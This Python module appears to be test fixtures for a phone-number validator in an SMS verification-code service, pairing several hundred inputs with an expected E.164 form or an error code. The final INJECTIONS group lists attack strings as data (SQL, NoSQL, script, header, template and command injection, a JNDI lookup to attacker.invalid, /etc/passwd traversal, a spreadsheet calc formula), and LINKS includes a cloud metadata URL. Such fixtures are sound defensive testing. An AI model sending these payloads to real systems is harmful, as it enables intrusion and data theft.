"""Phone numbers as callers may send them, and what each comes to: its canonical E.164, or an errorCode.

Nobody's numbers: of the ranges that a country reserves for fiction, or the examples that
libphonenumber itself gives for a country and kind. A comment names the ISO 3166-1 region.
"""

from typing import NamedTuple


class Row(NamedTuple):
    """What is sent as `phoneNumber`, and what it comes to."""

    text: str
    expected: str


INVALID = "INVALID_PHONE_NUMBER"
REFUSED = "DESTINATION_NOT_ALLOWED"

# Kinds that a code may be sent to: mobile, and where the plan cannot tell, fixed or mobile.
MOBILE = (
    Row("+24740123", "+24740123"),  # AC
    Row("+376312345", "+376312345"),  # AD
    Row("+971501234567", "+971501234567"),  # AE
    Row("+93701234567", "+93701234567"),  # AF
    Row("+12684641234", "+12684641234"),  # AG
    Row("+355672123456", "+355672123456"),  # AL
    Row("+37477123456", "+37477123456"),  # AM
    Row("+244923123456", "+244923123456"),  # AO
    Row("+5491123456789", "+5491123456789"),  # AR
    Row("+43664123456", "+43664123456"),  # AT
    Row("+61412345678", "+61412345678"),  # AU
    Row("+994401234567", "+994401234567"),  # AZ
    Row("+38761123456", "+38761123456"),  # BA
    Row("+12462501234", "+12462501234"),  # BB
    Row("+8801812345678", "+8801812345678"),  # BD
    Row("+32450001234", "+32450001234"),  # BE
    Row("+22670123456", "+22670123456"),  # BF
    Row("+35943012345", "+35943012345"),  # BG
    Row("+97336001234", "+97336001234"),  # BH
    Row("+25779561234", "+25779561234"),  # BI
    Row("+2290195123456", "+2290195123456"),  # BJ
    Row("+6737123456", "+6737123456"),  # BN
    Row("+59171234567", "+59171234567"),  # BO
    Row("+5511961234567", "+5511961234567"),  # BR
    Row("+97517123456", "+97517123456"),  # BT
    Row("+26771123456", "+26771123456"),  # BW
    Row("+375294911911", "+375294911911"),  # BY
    Row("+15062345678", "+15062345678"),  # CA
    Row("+243991234567", "+243991234567"),  # CD
    Row("+41781234567", "+41781234567"),  # CH
    Row("+2250123456789", "+2250123456789"),  # CI
    Row("+56221234567", "+56221234567"),  # CL
    Row("+237671234567", "+237671234567"),  # CM
    Row("+8613123456789", "+8613123456789"),  # CN
    Row("+573211234567", "+573211234567"),  # CO
    Row("+50683123456", "+50683123456"),  # CR
    Row("+5351234567", "+5351234567"),  # CU
    Row("+2389911234", "+2389911234"),  # CV
    Row("+35796123456", "+35796123456"),  # CY
    Row("+420601123456", "+420601123456"),  # CZ
    Row("+4915123456789", "+4915123456789"),  # DE
    Row("+4534412345", "+4534412345"),  # DK
    Row("+18092345678", "+18092345678"),  # DO
    Row("+213551234567", "+213551234567"),  # DZ
    Row("+593991234567", "+593991234567"),  # EC
    Row("+37251234567", "+37251234567"),  # EE
    Row("+201001234567", "+201001234567"),  # EG
    Row("+34612345678", "+34612345678"),  # ES
    Row("+251911234567", "+251911234567"),  # ET
    Row("+358412345678", "+358412345678"),  # FI
    Row("+6797012345", "+6797012345"),  # FJ
    Row("+50051234", "+50051234"),  # FK
    Row("+298211234", "+298211234"),  # FO
    Row("+33612345678", "+33612345678"),  # FR
    Row("+447400123456", "+447400123456"),  # GB
    Row("+995555123456", "+995555123456"),  # GE
    Row("+447781123456", "+447781123456"),  # GG
    Row("+233231234567", "+233231234567"),  # GH
    Row("+35057123456", "+35057123456"),  # GI
    Row("+299221234", "+299221234"),  # GL
    Row("+306912345678", "+306912345678"),  # GR
    Row("+50251234567", "+50251234567"),  # GT
    Row("+16713001234", "+16713001234"),  # GU
    Row("+85251234567", "+85251234567"),  # HK
    Row("+50491234567", "+50491234567"),  # HN
    Row("+385921234567", "+385921234567"),  # HR
    Row("+50934101234", "+50934101234"),  # HT
    Row("+36201234567", "+36201234567"),  # HU
    Row("+62812345678", "+62812345678"),  # ID
    Row("+353850123456", "+353850123456"),  # IE
    Row("+972502345678", "+972502345678"),  # IL
    Row("+447924123456", "+447924123456"),  # IM
    Row("+918123456789", "+918123456789"),  # IN
    Row("+9647912345678", "+9647912345678"),  # IQ
    Row("+989123456789", "+989123456789"),  # IR
    Row("+3546111234", "+3546111234"),  # IS
    Row("+393123456789", "+393123456789"),  # IT
    Row("+447797712345", "+447797712345"),  # JE
    Row("+18762101234", "+18762101234"),  # JM
    Row("+962790123456", "+962790123456"),  # JO
    Row("+819012345678", "+819012345678"),  # JP
    Row("+254712123456", "+254712123456"),  # KE
    Row("+996700123456", "+996700123456"),  # KG
    Row("+85591234567", "+85591234567"),  # KH
    Row("+821020000000", "+821020000000"),  # KR
    Row("+96550012345", "+96550012345"),  # KW
    Row("+77710009998", "+77710009998"),  # KZ
    Row("+8562023123456", "+8562023123456"),  # LA
    Row("+96171123456", "+96171123456"),  # LB
    Row("+423660234567", "+423660234567"),  # LI
    Row("+94712345678", "+94712345678"),  # LK
    Row("+37061234567", "+37061234567"),  # LT
    Row("+352628123456", "+352628123456"),  # LU
    Row("+37121234567", "+37121234567"),  # LV
    Row("+212650123456", "+212650123456"),  # MA
    Row("+377612345678", "+377612345678"),  # MC
    Row("+37362112345", "+37362112345"),  # MD
    Row("+38260123456", "+38260123456"),  # ME
    Row("+261321234567", "+261321234567"),  # MG
    Row("+38972345678", "+38972345678"),  # MK
    Row("+9592123456", "+9592123456"),  # MM
    Row("+97688123456", "+97688123456"),  # MN
    Row("+85366123456", "+85366123456"),  # MO
    Row("+35696961234", "+35696961234"),  # MT
    Row("+23052512345", "+23052512345"),  # MU
    Row("+9607712345", "+9607712345"),  # MV
    Row("+522221234567", "+522221234567"),  # MX
    Row("+60123456789", "+60123456789"),  # MY
    Row("+258821234567", "+258821234567"),  # MZ
    Row("+264811234567", "+264811234567"),  # NA
    Row("+687751234", "+687751234"),  # NC
    Row("+2348021234567", "+2348021234567"),  # NG
    Row("+50581234567", "+50581234567"),  # NI
    Row("+31612345678", "+31612345678"),  # NL
    Row("+4740612345", "+4740612345"),  # NO
    Row("+9779841234567", "+9779841234567"),  # NP
    Row("+6838884012", "+6838884012"),  # NU
    Row("+64211234567", "+64211234567"),  # NZ
    Row("+96892123456", "+96892123456"),  # OM
    Row("+50761234567", "+50761234567"),  # PA
    Row("+51912345678", "+51912345678"),  # PE
    Row("+68987123456", "+68987123456"),  # PF
    Row("+67570123456", "+67570123456"),  # PG
    Row("+639051234567", "+639051234567"),  # PH
    Row("+923012345678", "+923012345678"),  # PK
    Row("+48512345678", "+48512345678"),  # PL
    Row("+508551234", "+508551234"),  # PM
    Row("+17872345678", "+17872345678"),  # PR
    Row("+351912345678", "+351912345678"),  # PT
    Row("+595961456789", "+595961456789"),  # PY
    Row("+97433123456", "+97433123456"),  # QA
    Row("+40712034567", "+40712034567"),  # RO
    Row("+381601234567", "+381601234567"),  # RS
    Row("+79123456789", "+79123456789"),  # RU
    Row("+250720123456", "+250720123456"),  # RW
    Row("+966512345678", "+966512345678"),  # SA
    Row("+46701234567", "+46701234567"),  # SE
    Row("+6581234567", "+6581234567"),  # SG
    Row("+29051234", "+29051234"),  # SH
    Row("+38631234567", "+38631234567"),  # SI
    Row("+421912123456", "+421912123456"),  # SK
    Row("+37866661212", "+37866661212"),  # SM
    Row("+221701234567", "+221701234567"),  # SN
    Row("+50370123456", "+50370123456"),  # SV
    Row("+22890112345", "+22890112345"),  # TG
    Row("+66812345678", "+66812345678"),  # TH
    Row("+992917123456", "+992917123456"),  # TJ
    Row("+6907290", "+6907290"),  # TK
    Row("+21620123456", "+21620123456"),  # TN
    Row("+6767715123", "+6767715123"),  # TO
    Row("+905012345678", "+905012345678"),  # TR
    Row("+18682911234", "+18682911234"),  # TT
    Row("+886912345678", "+886912345678"),  # TW
    Row("+255621234567", "+255621234567"),  # TZ
    Row("+380501234567", "+380501234567"),  # UA
    Row("+256712345678", "+256712345678"),  # UG
    Row("+12015550123", "+12015550123"),  # US
    Row("+59894231234", "+59894231234"),  # UY
    Row("+998912345678", "+998912345678"),  # UZ
    Row("+584121234567", "+584121234567"),  # VE
    Row("+84912345678", "+84912345678"),  # VN
    Row("+681821234", "+681821234"),  # WF
    Row("+6857212345", "+6857212345"),  # WS
    Row("+38343201234", "+38343201234"),  # XK
    Row("+967712345678", "+967712345678"),  # YE
    Row("+27711234567", "+27711234567"),  # ZA
    Row("+260955123456", "+260955123456"),  # ZM
    Row("+263712345678", "+263712345678"),  # ZW
)

# No message arrives at a landline.
FIXED_LINE = (
    Row("+541123456789", REFUSED),  # AR
    Row("+61212345678", REFUSED),  # AU
    Row("+551123456789", REFUSED),  # BR
    Row("+41212345678", REFUSED),  # CH
    Row("+861012345678", REFUSED),  # CN
    Row("+4930123456", REFUSED),  # DE
    Row("+34810123456", REFUSED),  # ES
    Row("+33123456789", REFUSED),  # FR
    Row("+441212345678", REFUSED),  # GB
    Row("+62218350123", REFUSED),  # ID
    Row("+390212345678", REFUSED),  # IT
    Row("+81312345678", REFUSED),  # JP
    Row("+8222123456", REFUSED),  # KR
    Row("+522001234567", REFUSED),  # MX
    Row("+31101234567", REFUSED),  # NL
    Row("+48123456789", REFUSED),  # PL
    Row("+73011234567", REFUSED),  # RU
    Row("+468123456", REFUSED),  # SE
    Row("+902123456789", REFUSED),  # TR
    Row("+27101234567", REFUSED),  # ZA
    Row("+24762889", REFUSED),  # AC
    Row("+97317001234", REFUSED),  # BH
    Row("+237222123456", REFUSED),  # CM
    Row("+50031234", REFUSED),  # FK
    Row("+38512345678", REFUSED),  # HR
    Row("+13452221234", REFUSED),  # KY
    Row("+22320212345", REFUSED),  # ML
    Row("+6744441234", REFUSED),  # NR
    Row("+67740123", REFUSED),  # SB
    Row("+16497121234", REFUSED),  # TC
)

# The caller would be paid for the call: the reason why fraudsters ask for codes.
PREMIUM_RATE = (
    Row("+546001234567", REFUSED),  # AR
    Row("+611900123456", REFUSED),  # AU
    Row("+55500123456", REFUSED),  # BR
    Row("+41900123456", REFUSED),  # CH
    Row("+8616812345", REFUSED),  # CN
    Row("+499001234567", REFUSED),  # DE
    Row("+34803123456", REFUSED),  # ES
    Row("+33891123456", REFUSED),  # FR
    Row("+449012345678", REFUSED),  # GB
    Row("+628091234567", REFUSED),  # ID
    Row("+911861123456789", REFUSED),  # IN
    Row("+39899123456", REFUSED),  # IT
    Row("+81990123456", REFUSED),  # JP
    Row("+82602345678", REFUSED),  # KR
    Row("+529001234567", REFUSED),  # MX
    Row("+319061234", REFUSED),  # NL
    Row("+48701234567", REFUSED),  # PL
    Row("+469001234567", REFUSED),  # SE
    Row("+909001234567", REFUSED),  # TR
    Row("+27862345678", REFUSED),  # ZA
    Row("+376912345", REFUSED),  # AD
    Row("+97390123456", REFUSED),  # BH
    Row("+3729001234", REFUSED),  # EE
    Row("+3531520123456", REFUSED),  # IE
    Row("+4239002222", REFUSED),  # LI
    Row("+601600123456", REFUSED),  # MY
    Row("+262891123456", REFUSED),  # RE
    Row("+5039001234", REFUSED),  # SV
)

# The called party pays.
TOLL_FREE = (
    Row("+548001234567", REFUSED),  # AR
    Row("+611800123456", REFUSED),  # AU
    Row("+55800123456", REFUSED),  # BR
    Row("+41800123456", REFUSED),  # CH
    Row("+868001234567", REFUSED),  # CN
    Row("+498001234567890", REFUSED),  # DE
    Row("+34800123456", REFUSED),  # ES
    Row("+33801234567", REFUSED),  # FR
    Row("+448001234567", REFUSED),  # GB
    Row("+628001234567", REFUSED),  # ID
    Row("+911800123456", REFUSED),  # IN
    Row("+39800123456", REFUSED),  # IT
    Row("+81120123456", REFUSED),  # JP
    Row("+82801234567", REFUSED),  # KR
    Row("+528001234567", REFUSED),  # MX
    Row("+318001234", REFUSED),  # NL
    Row("+48800123456", REFUSED),  # PL
    Row("+4620123456", REFUSED),  # SE
    Row("+908001234567", REFUSED),  # TR
    Row("+27801234567", REFUSED),  # ZA
    Row("+37618001234", REFUSED),  # AD
    Row("+2670800012345", REFUSED),  # BW
    Row("+212801234567", REFUSED),  # EH
    Row("+3531800123456", REFUSED),  # IE
    Row("+37180123456", REFUSED),  # LV
    Row("+687050012", REFUSED),  # NC
    Row("+351800123456", REFUSED),  # PT
    Row("+26808001234", REFUSED),  # SZ
)

# Both pay.
SHARED_COST = (
    Row("+611300123456", REFUSED),  # AU
    Row("+5540041234", REFUSED),  # BR
    Row("+41840123456", REFUSED),  # CH
    Row("+864001234567", REFUSED),  # CN
    Row("+4918012345", REFUSED),  # DE
    Row("+34901123456", REFUSED),  # ES
    Row("+33884012345", REFUSED),  # FR
    Row("+628041234567", REFUSED),  # ID
    Row("+9118603451234", REFUSED),  # IN
    Row("+39848123456", REFUSED),  # IT
    Row("+523001234567", REFUSED),  # MX
    Row("+48801234567", REFUSED),  # PL
    Row("+46771234567", REFUSED),  # SE
    Row("+27860123456", REFUSED),  # ZA
    Row("+971700012345", REFUSED),  # AE
    Row("+38782123456", REFUSED),  # BA
    Row("+566001234567", REFUSED),  # CL
    Row("+420811234567", REFUSED),  # CZ
    Row("+9721700123456", REFUSED),  # IL
    Row("+35280112345", REFUSED),  # LU
    Row("+4781021234", REFUSED),  # NO
    Row("+262810123456", REFUSED),  # RE
)

# Bought by the thousand, bound to nobody.
VOIP = (
    Row("+61147101234", REFUSED),  # AU
    Row("+33912345678", REFUSED),  # FR
    Row("+445612345678", REFUSED),  # GB
    Row("+395512345678", REFUSED),  # IT
    Row("+815012345678", REFUSED),  # JP
    Row("+827012345678", REFUSED),  # KR
    Row("+31851234567", REFUSED),  # NL
    Row("+48391234567", REFUSED),  # PL
    Row("+908500123456", REFUSED),  # TR
    Row("+27871234567", REFUSED),  # ZA
    Row("+12684801234", REFUSED),  # AG
    Row("+590976012345", REFUSED),  # BL
    Row("+50640001234", REFUSED),  # CR
    Row("+298601234", REFUSED),  # FO
    Row("+5925151234", REFUSED),  # GY
    Row("+68630010000", REFUSED),  # KI
    Row("+261221234567", REFUSED),  # MG
    Row("+2303201234", REFUSED),  # MU
    Row("+351301234567", REFUSED),  # PT
    Row("+29026212", REFUSED),  # SH
    Row("+26870012345", REFUSED),  # SZ
    Row("+380891234567", REFUSED),  # UA
)

# Forwarded to wherever its owner says.
PERSONAL = (
    Row("+41878123456", REFUSED),  # CH
    Row("+4970012345678", REFUSED),  # DE
    Row("+34701234567", REFUSED),  # ES
    Row("+447012345678", REFUSED),  # GB
    Row("+391781234567", REFUSED),  # IT
    Row("+81601234567", REFUSED),  # JP
    Row("+825012345678", REFUSED),  # KR
    Row("+525001234567", REFUSED),  # MX
    Row("+46751234567", REFUSED),  # SE
    Row("+905922121234", REFUSED),  # TR
    Row("+15002345678", REFUSED),  # AG
    Row("+447015115678", REFUSED),  # JE
)

PAGER = (
    Row("+611631234", REFUSED),  # AU
    Row("+41740123456", REFUSED),  # CH
    Row("+4916412345", REFUSED),  # DE
    Row("+447640123456", REFUSED),  # GB
    Row("+812012345678", REFUSED),  # JP
    Row("+821523456789", REFUSED),  # KR
    Row("+31662345678", REFUSED),  # NL
    Row("+48641234567", REFUSED),  # PL
    Row("+46740123456", REFUSED),  # SE
    Row("+905123456789", REFUSED),  # TR
    Row("+12684061234", REFUSED),  # AG
    Row("+59995581234", REFUSED),  # CW
    Row("+962746612345", REFUSED),  # JO
    Row("+2302190123", REFUSED),  # MU
    Row("+351622212345", REFUSED),  # PT
)

# A company's, not a person's.
UAN = (
    Row("+548101234567", REFUSED),  # AR
    Row("+41581234567", REFUSED),  # CH
    Row("+4918500123456", REFUSED),  # DE
    Row("+34511234567", REFUSED),  # ES
    Row("+33806123456", REFUSED),  # FR
    Row("+445512345678", REFUSED),  # GB
    Row("+628071123456", REFUSED),  # ID
    Row("+911409305260", REFUSED),  # IN
    Row("+81570123456", REFUSED),  # JP
    Row("+8215441234", REFUSED),  # KR
    Row("+3114020", REFUSED),  # NL
    Row("+48804123456", REFUSED),  # PL
    Row("+46102345678", REFUSED),  # SE
    Row("+904441444", REFUSED),  # TR
    Row("+27861123456", REFUSED),  # ZA
    Row("+247542011", REFUSED),  # AC
    Row("+36381234567", REFUSED),  # HU
    Row("+4702000", REFUSED),  # NO
)

# A mailbox, not a phone.
VOICEMAIL = (
    Row("+41860123456789", REFUSED),  # CH
    Row("+49177991234567", REFUSED),  # DE
    Row("+3933101234501", REFUSED),  # IT
    Row("+46254123456789", REFUSED),  # SE
    Row("+42093123456789", REFUSED),  # CZ
    Row("+3538551234567", REFUSED),  # IE
    Row("+97215112340000", REFUSED),  # IL
    Row("+3546891234", REFUSED),  # IS
    Row("+423697861234", REFUSED),  # LI
    Row("+4781212345", REFUSED),  # NO
)

# Of no country (+800 and on), most of them satellites: among the most expensive that there are.
NO_COUNTRY = (
    Row("+80012345678", REFUSED),  # international freephone
    Row("+80000000000", REFUSED),
    Row("+80812345678", REFUSED),  # international shared cost
    Row("+870301234567", REFUSED),  # Inmarsat
    Row("+870773123456", REFUSED),
    Row("+878101234567890", REFUSED),  # universal personal
    Row("+881612345678", REFUSED),  # Iridium
    Row("+8823421234", REFUSED),  # international networks
    Row("+88213300655", REFUSED),
    Row("+882161234567", REFUSED),  # Thuraya
    Row("+883510012345", REFUSED),
    Row("+88812345678901", REFUSED),  # disaster relief
    Row("+979123456789", REFUSED),  # international premium rate
    Row("+87077000", INVALID),
    Row("+8819999999", INVALID),
    Row("+882999999", INVALID),
    Row("+97912345678", INVALID),
    Row("+888123456789", INVALID),
)

# Reserved for fiction. Some plans hold them valid, some do not.
FICTION = (
    Row("+14155550100", "+14155550100"),
    Row("+14155550177", "+14155550177"),
    Row("+14155550199", "+14155550199"),
    Row("+12025550123", "+12025550123"),
    Row("+12125550123", "+12125550123"),
    Row("+16135550123", "+16135550123"),
    Row("+61491570156", "+61491570156"),
    Row("+46701740605", "+46701740605"),
    Row("+447700900123", INVALID),
    Row("+447700900999", INVALID),
    Row("+33639980123", INVALID),
    Row("+442079460018", REFUSED),
    Row("+18005550199", REFUSED),
    Row("+19005550123", REFUSED),
    Row("+15005550006", REFUSED),
    Row("+15335550123", REFUSED),
)

# E.164 by its look, though with a trunk prefix or a habit of the country: none but Mexico's old one.
HABITS = (
    Row("+114155550100", INVALID),
    Row("+4407400123456", INVALID),
    Row("+330612345678", INVALID),
    Row("+49015123456789", INVALID),
    Row("+610412345678", INVALID),
    Row("+8109012345678", INVALID),
    Row("+789123456789", INVALID),
    Row("+54111523456789", INVALID),
    Row("+4402079460018", INVALID),
    Row("+5212221234567", "+522221234567"),  # Mexico's old spelling of the same subscriber
    Row("+972599123456", "+970599123456"),  # Palestine's mobile numbers in Israel's plan
    Row("+5212001234567", REFUSED),
    Row("+390312345678", REFUSED),
    Row("+39312345678", INVALID),
    Row("+22990011234", INVALID),
    Row("+22501234567", INVALID),
    Row("+551161234567", INVALID),
)

# E.164 by its look, of no plan.
NO_PLAN = (
    Row("+1234567", INVALID),
    Row("+10000000000", INVALID),
    Row("+11111111111", INVALID),
    Row("+11234567890", INVALID),
    Row("+11234567891", INVALID),
    Row("+14150555010", INVALID),
    Row("+1415555010", INVALID),
    Row("+141555501000", INVALID),
    Row("+4400000000", INVALID),
    Row("+449999999999", INVALID),
    Row("+71234567890", INVALID),
    Row("+20100000", INVALID),
    Row("+2100000000", INVALID),
    Row("+21012345678", INVALID),
    Row("+999123456789", INVALID),
    Row("+99999999999", INVALID),
    Row("+999999999999999", INVALID),
    Row("+100000000000000", INVALID),
    Row("+1911911911", INVALID),
    Row("+521555", INVALID),
)

# Short codes, service and emergency numbers.
SHORT = (
    Row("112", INVALID),
    Row("911", INVALID),
    Row("999", INVALID),
    Row("110", INVALID),
    Row("000", INVALID),
    Row("+112", INVALID),
    Row("+911", INVALID),
    Row("+1911", INVALID),
    Row("+1411", INVALID),
    Row("+44999", INVALID),
    Row("+44112", INVALID),
    Row("+49110", INVALID),
    Row("+61000", INVALID),
    Row("+8610086", INVALID),
    Row("+989601", INVALID),
    Row("72345", INVALID),
    Row("+172345", INVALID),
    Row("32665", INVALID),
    Row("*111#", INVALID),
    Row("*#06#", INVALID),
    Row("+1*67", INVALID),
    Row("**21*14155550177#", INVALID),
)

# Too short, too long, or nearly nothing.
LENGTHS = (
    Row("", INVALID),
    Row("+", INVALID),
    Row("++", INVALID),
    Row("0", INVALID),
    Row("+0", INVALID),
    Row("+1", INVALID),
    Row("+12", INVALID),
    Row("+123456", INVALID),
    Row("+141555", INVALID),
    Row("+1415555017700000", INVALID),
    Row("+14155550177000000000", INVALID),
    Row("+441234567890123456", INVALID),
    Row("+" + "1" * 31, INVALID),
    Row("+" + "9" * 4_000, INVALID),
    Row("-", INVALID),
    Row(".", INVALID),
    Row("null", INVALID),
    Row("None", INVALID),
    Row("undefined", INVALID),
    Row("NaN", INVALID),
    Row("anonymous", INVALID),
)

# Prefixes that are not one plus sign.
PREFIXES = (
    Row("14155550177", INVALID),
    Row("4155550177", INVALID),
    Row("0014155550177", INVALID),
    Row("01114155550177", INVALID),
    Row("+0014155550177", INVALID),
    Row("+014155550177", INVALID),
    Row("00447400123456", INVALID),
    Row("07400123456", INVALID),
    Row("447400123456", INVALID),
    Row("++14155550177", INVALID),
    Row("+++14155550177", INVALID),
    Row("+-14155550177", INVALID),
    Row("-14155550177", INVALID),
    Row("+ 14155550177", INVALID),
    Row("%2B14155550177", INVALID),
    Row("%2b14155550177", INVALID),
    Row("&#43;14155550177", INVALID),
    Row("\\u002b14155550177", INVALID),
    Row("\\+14155550177", INVALID),
    Row("\uff0b14155550177", INVALID),  # full-width plus
    Row("\ufe6214155550177", INVALID),  # small plus
    Row("\u207a14155550177", INVALID),  # superscript plus
    Row("1+4155550177", INVALID),
    Row("14155550177+", INVALID),
    Row("+1+4155550177", INVALID),
    Row("~14155550177", INVALID),
)

# As people write them.
PUNCTUATION = (
    Row("+1 415 555 0177", INVALID),
    Row("+1-415-555-0177", INVALID),
    Row("+1.415.555.0177", INVALID),
    Row("+1 (415) 555-0177", INVALID),
    Row("+1(415)5550177", INVALID),
    Row("(415) 555-0177", INVALID),
    Row("+1/415/5550177", INVALID),
    Row("+1_415_5550177", INVALID),
    Row("+1,415,5550177", INVALID),
    Row("+1'415'5550177", INVALID),
    Row("+44 (0)20 7946 0018", INVALID),
    Row("+44 (0) 7400 123456", INVALID),
    Row("+1~4155550177", INVALID),
    Row("+1*4155550177", INVALID),
    Row("+1\u20134155550177", INVALID),  # en dash
    Row("+1\u22124155550177", INVALID),  # minus sign
    Row("+1\u30fc4155550177", INVALID),  # katakana dash
    Row("[+14155550177]", INVALID),
    Row('"+14155550177"', INVALID),
    Row("<+14155550177>", INVALID),
    Row("+14155550177.", INVALID),
    Row("+14155550177,", INVALID),
    Row("+14155550177;", INVALID),
    Row("+14155550177#", INVALID),
    Row("#+14155550177", INVALID),
    Row("+14155550177*", INVALID),
    Row("+14155550177%00", INVALID),
    Row("+14155550177&to=", INVALID),
    Row("+14155550177&to=+14155550178", INVALID),
    Row("+14155550177,+14155550178", INVALID),
    Row("+14155550177;+14155550178", INVALID),
    Row("+14155550177 +14155550178", INVALID),
    Row("+14155550177/+14155550178", INVALID),
    Row("+14155550177|+14155550178", INVALID),
    Row("+1.4155550177e10", INVALID),
    Row("1.4155550177e10", INVALID),
    Row("+0x34BCB7D1", INVALID),
    Row("+14_155_550_177", INVALID),
)

# Extensions, which libphonenumber takes and E.164 then drops.
EXTENSIONS = (
    Row("+14155550177;ext=5", INVALID),
    Row("+14155550177 ext. 5", INVALID),
    Row("+14155550177ext5", INVALID),
    Row("+14155550177 x5", INVALID),
    Row("+14155550177x5", INVALID),
    Row("+14155550177#5", INVALID),
    Row("+14155550177,,9", INVALID),
    Row("+14155550177,9#", INVALID),
    Row("+14155550177p9", INVALID),
    Row("+14155550177w9", INVALID),
    Row("+14155550177 extension 5", INVALID),
    Row("+14155550177 \u0434\u043e\u0431. 5", INVALID),  # Russian for extension
    Row("+14155550177~5", INVALID),
    Row("+14155550177 int 5", INVALID),
)

# Links.
LINKS = (
    Row("tel:+14155550177", INVALID),
    Row("TEL:+14155550177", INVALID),
    Row("tel:4155550177;phone-context=+1", INVALID),
    Row("tel:+14155550177;phone-context=+44", INVALID),
    Row("tel:+14155550177;isub=12345", INVALID),
    Row("sms:+14155550177", INVALID),
    Row("sip:+14155550177@example.com", INVALID),
    Row("callto:+14155550177", INVALID),
    Row("whatsapp:+14155550177", INVALID),
    Row("urn:tel:+14155550177", INVALID),
    Row("https://wa.me/14155550177", INVALID),
    Row("+14155550177@example.com", INVALID),
    Row("mailto:user@example.com", INVALID),
    Row("http://169.254.169.254/latest/meta-data/", INVALID),
)

# Letters on a keypad.
LETTERS = (
    Row("+1 800 FLOWERS", INVALID),
    Row("+1800FLOWERS", INVALID),
    Row("+1415555CODE", INVALID),
    Row("+1415555code", INVALID),
    Row("+1415555O177", INVALID),
    Row("+1415555l177", INVALID),
    Row("+1415555\u041e177", INVALID),  # Cyrillic O
    Row("+phone", INVALID),
    Row("abc", INVALID),
)

# Digits that are not ASCII's: `\d`, `int` and libphonenumber take them all.
DIGITS = (
    Row("+\uff11\uff14\uff11\uff15\uff15\uff15\uff15\uff10\uff11\uff17\uff17", INVALID),  # full-width
    Row("\uff0b\uff11\uff14\uff11\uff15\uff15\uff15\uff15\uff10\uff11\uff17\uff17", INVALID),
    Row("+1415555017\uff17", INVALID),
    Row("+\uff114155550177", INVALID),
    Row("+1\uff14155550177", INVALID),
    Row("+\u0661\u0664\u0661\u0665\u0665\u0665\u0665\u0660\u0661\u0667\u0667", INVALID),  # Arabic-Indic
    Row("+1415555017\u0667", INVALID),
    Row("+\u06f1\u06f4\u06f1\u06f5\u06f5\u06f5\u06f5\u06f0\u06f1\u06f7\u06f7", INVALID),  # Persian
    Row("+\u0967\u096a\u0967\u096b\u096b\u096b\u096b\u0966\u0967\u096d\u096d", INVALID),  # Devanagari
    Row("+1415555017\u096d", INVALID),
    Row("+1415555017\u09ed", INVALID),  # Bengali
    Row("+1415555017\u0e57", INVALID),  # Thai
    Row("+1415555017\u00b2", INVALID),  # superscript two
    Row("+1415555017\u2077", INVALID),  # superscript seven
    Row("+1415555017\u2087", INVALID),  # subscript seven
    Row("+1415555017\u2466", INVALID),  # circled seven
    Row("+1415555017\u2166", INVALID),  # Roman numeral
    Row("+1415555017\U0001d7d5", INVALID),  # mathematical bold
    Row("+1415555017\u4e03", INVALID),  # Han
    Row("+1415555017\u00bd", INVALID),  # one half
)

# Characters that are not seen.
INVISIBLE = (
    Row(" +14155550177", INVALID),
    Row("+14155550177 ", INVALID),
    Row("\t+14155550177", INVALID),
    Row("+14155550177\t", INVALID),
    Row("\n+14155550177", INVALID),
    Row("+14155550177\n", INVALID),
    Row("+14155550177\r", INVALID),
    Row("+14155550177\r\n", INVALID),
    Row("+1415555\n0177", INVALID),
    Row("+14155550177\n+14155550178", INVALID),
    Row("+14155550177\x00", INVALID),
    Row("\x00+14155550177", INVALID),
    Row("+1415\x005550177", INVALID),
    Row("+14155550177\x0b", INVALID),
    Row("+14155550177\x0c", INVALID),
    Row("+14155550177\x1c", INVALID),
    Row("+14155550177\x7f", INVALID),
    Row("+14155550177\x85", INVALID),
    Row("+14155550177\xa0", INVALID),  # no-break space
    Row("+1\xa04155550177", INVALID),
    Row("+1\xad4155550177", INVALID),  # soft hyphen
    Row("+14155550177\xad", INVALID),
    Row("+14155550177\u200b", INVALID),  # zero-width space
    Row("\u200b+14155550177", INVALID),
    Row("+1\u200b4155550177", INVALID),
    Row("+1\u200c4155550177", INVALID),  # zero-width non-joiner
    Row("+1\u200d4155550177", INVALID),  # zero-width joiner
    Row("+1\u20604155550177", INVALID),  # word joiner
    Row("\ufeff+14155550177", INVALID),  # byte-order mark
    Row("+14155550177\ufeff", INVALID),
    Row("\u200e+14155550177", INVALID),  # left-to-right mark
    Row("\u202a+14155550177\u202c", INVALID),  # left-to-right embedding, as copied from a contact
    Row("\u202a+14155550177", INVALID),
    Row("\u202d+14155550177", INVALID),  # left-to-right override
    Row("\u202e77105555141+", INVALID),  # right-to-left override
    Row("\u2066+14155550177\u2069", INVALID),  # isolate
    Row("+14155550177\u2028", INVALID),  # line separator
    Row("+14155550177\u2029", INVALID),  # paragraph separator
    Row("+1\u30004155550177", INVALID),  # ideographic space
    Row("+1\u20094155550177", INVALID),  # thin space
    Row("+1415555\u03010177", INVALID),  # combining accent
    Row("+14155550177\ufe0f", INVALID),  # variation selector
    Row("+1415555017\u20e3", INVALID),  # keycap
    Row("+14155550177\U000e0031", INVALID),  # tag digit one
    Row("\ud800+14155550177", INVALID),  # lone surrogate
    Row("+14155550177\udfff", INVALID),
)

# Words of other languages.
INJECTIONS = (
    Row("' OR '1'='1", INVALID),
    Row("+14155550177' OR '1'='1", INVALID),
    Row("+14155550177'; DROP TABLE otp;--", INVALID),
    Row("+14155550177/**/UNION/**/SELECT", INVALID),
    Row('+14155550177","to":"+14155550178', INVALID),
    Row('{"$ne":null}', INVALID),
    Row("<script>alert(1)</script>", INVALID),
    Row("+14155550177<b>", INVALID),
    Row("+14155550177\r\nX-Injected: 1", INVALID),
    Row("+14155550177\r\n\r\nGET / HTTP/1.1", INVALID),
    Row("+14155550177%0d%0aX-Injected:1", INVALID),
    Row("${jndi:ldap://attacker.invalid/a}", INVALID),
    Row("+1${7*7}", INVALID),
    Row("{{7*7}}", INVALID),
    Row("{{pin}}", INVALID),
    Row("<#if 1==1>", INVALID),
    Row("%s%s%s%n", INVALID),
    Row("$(id)", INVALID),
    Row("`id`", INVALID),
    Row("+14155550177;id", INVALID),
    Row("+14155550177|id", INVALID),
    Row("../../etc/passwd", INVALID),
    Row("+1415555/../0177", INVALID),
    Row("+14155550177?to=+14155550178", INVALID),
    Row("=cmd|' /C calc'!A0", INVALID),
    Row("+cmd|' /C calc'!A0", INVALID),
    Row("\x1b[31m+14155550177", INVALID),
    Row("*)(uid=*))(|(uid=*", INVALID),
    Row("V#+14155550177", INVALID),
    Row("__proto__", INVALID),
)

